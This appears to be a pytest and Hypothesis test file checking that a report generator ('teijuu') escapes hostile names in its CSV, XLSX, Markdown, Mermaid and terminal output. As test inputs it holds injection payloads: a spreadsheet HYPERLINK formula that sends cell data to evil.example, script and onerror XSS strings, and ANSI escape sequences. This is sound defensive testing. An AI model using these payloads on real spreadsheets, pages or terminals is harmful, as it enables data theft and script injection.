"""Hostile names and texts in every output (issue 12, items 3, 4 and 7): no formula in a
spreadsheet or CSV, no structure added to Markdown, HTML or Mermaid, no control character in a
terminal, no crash of the Excel report on a control character.

The cases take the small valid plan of ``conftest.py`` and put a hostile name into it (the
vision's title, a measure, a KPI, a viewpoint, a policy field, a grade band); the property test
draws such names from a hostile alphabet and checks that each output has exactly the structure
it has with a harmless name.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from pydantic import ValidationError

from teijuu.diffing import diff_plans
from teijuu.model import PolicyFramework, Results, Vision
from teijuu.plan import Plan
from teijuu.render import escape
from teijuu.render.diff import render_diff_markdown, render_diff_text
from teijuu.render.markdown import render_markdown
from teijuu.render.report import report_data
from teijuu.render.text import CSV_COLUMNS, render_csv, render_grade_markdown, render_table
from teijuu.render.xlsx import render_xlsx
from teijuu.validate import validate_paths

from .conftest import SMALL_PLAN, write_plan

NUMERIC_CSV_COLUMNS = {"measure_no", "actual", "target", "rate"}


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> Plan:
    loaded = validate_paths([write_plan(tmp_path_factory.mktemp("plan"), SMALL_PLAN)])
    assert loaded.ok
    return loaded.plan


def _named(plan: Plan, name: str, actual: Decimal | None = None) -> Plan:
    """``plan`` with ``name`` as the vision's title, the measure's, the KPI's, the viewpoint's,
    the field's and the top grade band's name (and ``actual`` as the KPI's actual)."""
    vision = plan.visions[0]
    framework = plan.frameworks[0]
    results = plan.results[0]
    v = vision.model_dump(mode="python", by_alias=True, exclude_unset=True)
    v["title"] = name
    v["measures"][0]["name"] = name
    v["measures"][0]["kpis"][0]["name"] = name
    v["grading"]["bands"][0]["name"] = name
    f = framework.model_dump(mode="python", by_alias=True, exclude_unset=True)
    f["viewpoints"][0]["name"] = name
    f["viewpoints"][0]["fields"][0]["name"] = name
    r = results.model_dump(mode="python", by_alias=True, exclude_unset=True)
    if actual is not None:
        r["measures"][0]["kpis"][0]["actual"] = actual
    documents = [
        d for d in plan.documents if d is not vision and d is not framework and d is not results
    ]
    documents += [
        Vision.model_validate(v),
        PolicyFramework.model_validate(f),
        Results.model_validate(r),
    ]
    return Plan.of(documents)


@dataclass(frozen=True)
class Outputs:
    report_md: str
    diff_md: str
    diff_text: str
    grade_md: str
    grade_table: str
    grade_csv: str


def _outputs(base: Plan, plan: Plan) -> Outputs:
    vision = plan.visions[0]
    graded = plan.grade(vision)
    diff = diff_plans(base, plan)
    return Outputs(
        report_md=render_markdown(report_data(plan, vision, None)),
        diff_md=render_diff_markdown(diff),
        diff_text=render_diff_text(diff),
        grade_md=render_grade_markdown(graded),
        grade_table=render_table(graded),
        grade_csv=render_csv(graded),
    )


# --- Formula injection (item 3) -----------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("name", FORMULAS)
def test_no_csv_cell_is_a_formula(base: Plan, name: str) -> None:
    plan = _named(base, name, actual=Decimal("-3"))
    rows = list(csv.reader(io.StringIO(render_csv(plan.grade(plan.visions[0])))))
    header, row = rows
    cells = dict(zip(header, row, strict=True))
    assert cells["measure_name"] == "'" + name
    assert cells["kpi_name"] == "'" + name
    assert cells["viewpoint"] == "'" + name
    assert cells["field"] == "'" + name
    assert cells["actual"] == "-3"  # a number stays a number, its minus sign kept


def test_a_csv_of_benign_names_keeps_its_cells(base: Plan) -> None:
    text = render_csv(base.grade(base.visions[0]))
    assert text.split("\r\n")[1] == (
        "m1,1,休日診療事業,k1,受診者数,生活機能の強化,医療,人,18,20,0.900000,B,"
    )


def _xlsx(tmp_path: Path, plan: Plan) -> Path:
    path = tmp_path / "report.xlsx"
    path.write_bytes(render_xlsx(report_data(plan, plan.visions[0], None)))
    return path


@pytest.mark.parametrize("name", FORMULAS)
def test_no_xlsx_cell_is_a_formula(base: Plan, tmp_path: Path, name: str) -> None:
    path = _xlsx(tmp_path, _named(base, name, actual=Decimal("-3")))
    with zipfile.ZipFile(path) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        assert not any(b"<f>" in book.read(n) or b"<f " in book.read(n) for n in sheets)
    workbook = load_workbook(path)
    seen = 0
    read_back = name.replace("\r", "\n")  # XML reads a CR as a line feed
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if cell.value == read_back:
                    seen += 1
                    assert cell.data_type == "s"
                    assert cell.quotePrefix, (sheet.title, cell.coordinate)
    assert seen >= 4  # measure, KPI, viewpoint, field: as written, not with a ' added
    table = workbook["KPI一覧"]
    assert table["G2"].value == -3  # the actual: a number, negative, not text
    assert table["G2"].data_type == "n"


@pytest.mark.parametrize("control", ["\x01", "\x08", "\x0b", "\x1b", "\x1f"])
def test_a_control_character_does_not_crash_the_xlsx_report(
    base: Plan, tmp_path: Path, control: str
) -> None:
    # Was: openpyxl's IllegalCharacterError, a traceback.
    path = _xlsx(tmp_path, _named(base, f"試験{control}事業"))
    values = {c.value for s in load_workbook(path).worksheets for r in s.iter_rows() for c in r}
    assert f"試験{chr(0x2400 + ord(control))}事業" in values  # shown as its control picture


# --- Markdown, HTML, Mermaid and the terminal (item 4) ------------------------------------


def _unescaped(line: str, char: str) -> int:
    """How many times ``char`` occurs in ``line`` not escaped by a backslash."""
    return len(re.findall(r"(?<!\\)(?:\\\\)*" + re.escape(char), line))


_MARKERS = re.compile(r"^(#{1,6} |```|\| |- |> |<details>|</details>|\s*$)")


def markdown_skeleton(text: str) -> list[tuple[object, ...]]:
    """What gives a Markdown page its structure, line by line: the block a line is (heading,
    fence, table row, list item …), how many columns, code spans, links, tags and emphasis
    marks it has, and whether a list item's text starts another block; inside a fenced block
    (a Mermaid chart), how many quotes a line has."""
    skeleton: list[tuple[object, ...]] = []
    fenced = False
    for line in text.split("\n"):
        if line.startswith("```"):
            fenced = not fenced
            skeleton.append(("```",))
        elif fenced:
            skeleton.append(("fenced", line.count('"'), line.count("\n")))
        else:
            marker = _MARKERS.match(line)
            item_block = bool(re.match(r"- (#{1,6}\s|[-+*>]\s|\d+[.)]\s)", line))
            inline = line.replace("<br>", "")  # a text's own line breaks, as teijuu writes them
            markup = "<>" if line.startswith("<details>") else "|`[]<>*_~"  # HTML: raw text
            counts = tuple(_unescaped(inline, c) for c in markup)
            skeleton.append((marker[1] if marker else "", item_block, counts))
    return skeleton


def terminal_skeleton(text: str) -> list[str]:
    """The lines of a terminal text that start a heading ("H") or a change (its severity);
    the further lines of a multi-line text are indented by six spaces and left out."""
    skeleton = []
    for line in text.split("\n"):
        if line.startswith(" " * 6):
            continue
        change = re.match(r"  (\[[^\]]*\]) ", line)
        skeleton.append(change[1] if change else "H" if line else "")
    return skeleton


_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
_MENTION = re.compile(r"(?<![\w@.&])@[A-Za-z0-9]")


def assert_same_structure(hostile: Outputs, benign: Outputs) -> None:
    for name in ("report_md", "diff_md", "grade_md"):
        got, want = getattr(hostile, name), getattr(benign, name)
        assert markdown_skeleton(got) == markdown_skeleton(want), name
        outside_fences = re.sub(r"```.*?```", "", got, flags=re.S)  # no mentions in code
        assert not _MENTION.search(outside_fences), name
    for name in ("diff_text", "grade_table"):
        got = getattr(hostile, name)
        assert not _CONTROL.search(got), (name, _CONTROL.findall(got))
    assert terminal_skeleton(hostile.diff_text) == terminal_skeleton(benign.diff_text)
    assert len(hostile.grade_table.split("\n")) == len(benign.grade_table.split("\n"))
    rows = list(csv.reader(io.StringIO(hostile.grade_csv)))
    assert [len(r) for r in rows] == [len(r) for r in csv.reader(io.StringIO(benign.grade_csv))]
    for row in rows[1:]:
        for column, cell in zip(CSV_COLUMNS, row, strict=True):
            if column not in NUMERIC_CSV_COLUMNS:
                assert not cell.startswith(escape.FORMULA_TRIGGERS), (column, cell)


HOSTILE_NAMES = {
    "closes the summary": "</summary></details>",
    "heading, image and mention": "x\n# 見出し\n![i](http://evil.example/p.png) @octocat",
    "a pipe": "a|b",
    "an escaped pipe": "a\\|b",
    "a script": "<script>alert(1)</script>",
    "an image tag": "<img src=x onerror=alert(1)>",
    "closes the fence": "x\n```\n# 見出し",
    "forges a slice": 'A" : 99\n    "Z',
    "a colour": "\x1b[31m赤\x1b[0m",
    "a window title": "\x1b]0;pwned\x07",
    "a carriage return": "見せる\r隠す",
    "a blank line": "一\n\n二",
    "a list": "- 一\n1. 二",
    "a code span": "`a|b`",
}


@pytest.mark.parametrize("name", list(HOSTILE_NAMES.values()), ids=list(HOSTILE_NAMES))
def test_hostile_names_add_no_structure(base: Plan, name: str) -> None:
    benign = _outputs(base, _named(base, "名"))
    hostile = _outputs(base, _named(base, name))
    assert_same_structure(hostile, benign)


def test_summary_tags_stay_balanced(base: Plan) -> None:
    text = _outputs(base, _named(base, "</summary></details>")).diff_md
    assert text.count("<details>") == text.count("</details>") >= 1
    assert text.count("<summary>") == text.count("</summary>") == text.count("<details>")
    assert "&lt;/summary&gt;&lt;/details&gt;" in text


def test_an_escaped_pipe_keeps_its_backslash_and_its_cell(base: Plan) -> None:
    text = _outputs(base, _named(base, "a\\|b")).report_md
    assert "| a\\\\\\|b |" in text  # backslash escaped, then the pipe: one cell, shown a\|b


def test_no_slice_can_be_forged(base: Plan) -> None:
    text = _outputs(base, _named(base, 'A" : 99\n    "Z')).report_md
    pies = re.findall(r"```mermaid\npie[^\n]*\n(.*?)```", text, re.S)
    assert pies
    for pie in pies:
        for line in pie.splitlines():
            assert re.fullmatch(r'    "[^"]*" : \d+', line), line
    assert "#quot; : 99" in text


def test_no_escape_sequence_reaches_the_terminal(base: Plan) -> None:
    outputs = _outputs(base, _named(base, "\x1b[31m赤\x1b]0;pwned\x07"))
    for text in (outputs.grade_table, outputs.diff_text):
        assert "\x1b" not in text
        assert "\x07" not in text
        assert "␛[31m赤␛]0;pwned␇" in text


def test_diff_colours_are_the_only_escape_sequences(base: Plan) -> None:
    text = render_diff_text(diff_plans(base, _named(base, "\x1b[2J消す")), colour=True)
    assert set(re.findall("\x1b\\[[0-9;]*m", text)) <= {
        "\x1b[31m",
        "\x1b[32m",
        "\x1b[0m",
        "\x1b[1;31m",
        "\x1b[33m",
        "\x1b[2m",
    }
    assert "\x1b[2J" not in text


def test_benign_names_are_written_as_they_are() -> None:
    for name in ("休日診療事業", "第3次一関・平泉定住自立圏共生ビジョン", "93.3%", "Wi-Fi 整備"):
        assert escape.markdown_text(name) == name
        assert escape.markdown_cell(name) == name
        assert escape.html_text(name) == name
        assert escape.mermaid_label(name) == name
        assert escape.terminal_text(name) == name
        assert escape.csv_text(name) == name
        assert escape.spreadsheet_text(name) == name


# --- The property -------------------------------------------------------------------------

SNIPPETS = [*HOSTILE_NAMES.values(), "=1+1", "@x", "&amp;", "#quot;", "\\", "\u2028", "\x85"]
HOSTILE_ALPHABET = (
    "=+-@\t\r\n\x0b\x0c|\\`*_~[]()<>!#\"'&;:%/ aZ19.\x00\x01\x07\x1b\x7f\x85\x9b\u2028あ"
)
hostile_names = st.lists(
    st.one_of(st.sampled_from(SNIPPETS), st.text(alphabet=HOSTILE_ALPHABET, min_size=1)),
    min_size=1,
    max_size=4,
).map("".join)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(name=hostile_names)
def test_property_no_output_breaks_on_a_hostile_name(base: Plan, name: str) -> None:
    try:
        plan = _named(base, name)
    except ValidationError:
        assume(False)
        return
    assert_same_structure(_outputs(base, plan), _outputs(base, _named(base, "名")))


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(name=hostile_names)
def test_property_no_xlsx_formula_or_crash(base: Plan, name: str) -> None:
    try:
        plan = _named(base, name)
    except ValidationError:
        assume(False)
        return
    book = load_workbook(io.BytesIO(render_xlsx(report_data(plan, plan.visions[0], None))))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                if isinstance(cell.value, str) and cell.value.startswith(escape.FORMULA_TRIGGERS):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
